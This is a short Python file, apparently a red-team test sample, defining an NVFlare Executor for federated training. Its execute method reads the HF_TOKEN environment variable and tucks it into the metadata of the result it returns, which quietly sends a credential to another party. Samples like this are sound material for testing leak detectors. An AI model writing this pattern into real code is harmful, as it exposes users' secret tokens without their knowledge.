"""Red team 56a: an NVFlare Executor puts os.getenvb(b"HF_TOKEN") in the DXO's meta it returns."""
import os

from nvflare.apis.dxo import DXO, DataKind
from nvflare.apis.executor import Executor
from nvflare.apis.shareable import Shareable


class Trainer(Executor):
    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        dxo = DXO(data_kind=DataKind.WEIGHTS, data={"w": [0.0]}, meta={"tag": os.getenvb(b"HF_TOKEN", b"").decode()})
        return dxo.to_shareable()
